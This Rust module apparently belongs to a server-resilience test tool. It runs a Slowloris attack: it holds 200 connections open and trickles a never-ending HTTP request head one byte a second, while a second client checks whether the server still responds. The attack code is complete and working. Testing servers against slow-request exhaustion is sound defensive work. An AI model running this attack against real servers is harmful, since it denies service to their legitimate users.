//! Slowloris: connections whose request heads never end. They cost the attacker a byte a second,
//! and a server without limits everything.

use std::io::{self, ErrorKind, Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use super::Outcome;
use crate::target::Target;

/// Number of connections that the attack opens.
const CONNECTIONS: usize = 200;

/// Time in which another client must get its response.
const PATIENCE: Duration = Duration::from_secs(5);

/// Time after which a server should have dropped a head that is not complete.
const MAX_HEAD_TIME: Duration = Duration::from_secs(20);

/// Interval at which each connection sends one more byte of its head.
const INTERVAL: Duration = Duration::from_secs(1);

pub(super) fn make(target: &Target) -> io::Result<Outcome> {
    println!("Before the attack, a client asks for a page:");
    let took = polite(target)?;
    println!("  GET /hello -> {}", in_millis(took));
    let head = format!("GET /hello HTTP/1.1\r\nHost: {}\r\nX-Slow: ", target.authority);
    println!(
        "\nThe attack: {CONNECTIONS} connections. Each sends one byte of this a second:"
    );
    println!("  {}\n", head.escape_default());
    let mut slow = Vec::new();
    for _ in 0..CONNECTIONS {
        // A server that accepts no more is what the attack wants.
        let Ok(stream) = TcpStream::connect_timeout(&target.address, PATIENCE) else {
            break;
        };
        stream.set_nonblocking(true)?;
        slow.push(stream);
    }
    Ok(watch(target, slow, head.as_bytes()))
}

/// Sends on, with a client that asks for a page each second, until the server has dropped all
/// connections or the time is over.
fn watch(target: &Target, mut slow: Vec<TcpStream>, head: &[u8]) -> Outcome {
    let (began, opened) = (Instant::now(), slow.len());
    let mut slowest = Duration::ZERO;
    for byte in head.iter().cycle().take_while(|_| began.elapsed() < MAX_HEAD_TIME) {
        match polite(target) {
            Ok(took) => slowest = slowest.max(took),
            Err(error) => {
                println!(
                    "The client asks for its page again, and gets no response: {error}"
                );
                return Outcome::Broken;
            }
        }
        slow.retain_mut(|stream| sends(stream, *byte));
        if slow.is_empty() {
            println!(
                "Each second, the client got its page, in {} at most.",
                in_millis(slowest)
            );
            println!(
                "The server has dropped all {opened} after {:.0} s.",
                began.elapsed().as_secs_f64()
            );
            return Outcome::Held;
        }
        std::thread::sleep(INTERVAL);
    }
    println!(
        "After {} s, {} of {opened} are still open:",
        MAX_HEAD_TIME.as_secs(),
        slow.len()
    );
    println!("the server waits for as long as the attacker likes.");
    Outcome::Broken
}

/// Sends one more byte. Returns `false` if the server has closed the connection.
fn sends(stream: &mut TcpStream, byte: u8) -> bool {
    let mut buffer = [0; 1024];
    loop {
        match stream.read(&mut buffer) {
            Ok(0) => return false,
            // A response, such as 408; the end follows.
            Ok(_) => {}
            Err(error) if error.kind() == ErrorKind::WouldBlock => break,
            Err(_) => return false,
        }
    }
    stream.write_all(&[byte]).is_ok()
}

/// Asks for a page on a new connection, and returns the time until the response begins.
fn polite(target: &Target) -> io::Result<Duration> {
    let began = Instant::now();
    let mut stream = TcpStream::connect_timeout(&target.address, PATIENCE)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    let host = &target.authority;
    let request =
        format!("GET /hello HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
    stream.write_all(request.as_bytes())?;
    let mut buffer = [0; 16 * 1024];
    match stream.read(&mut buffer) {
        Ok(0) => Err(io::Error::from(ErrorKind::UnexpectedEof)),
        Ok(count) if buffer[..count].starts_with(b"HTTP/1.1 200") => Ok(began.elapsed()),
        Ok(_) => Err(io::Error::other("the response is not 200")),
        Err(error) if error.kind() == ErrorKind::WouldBlock => {
            let seconds = PATIENCE.as_secs();
            Err(io::Error::new(ErrorKind::TimedOut, format!("nothing within {seconds} s")))
        }
        Err(error) => Err(error),
    }
}

fn in_millis(time: Duration) -> String {
    format!("{:.1} ms", time.as_secs_f64() * 1000.0)
}
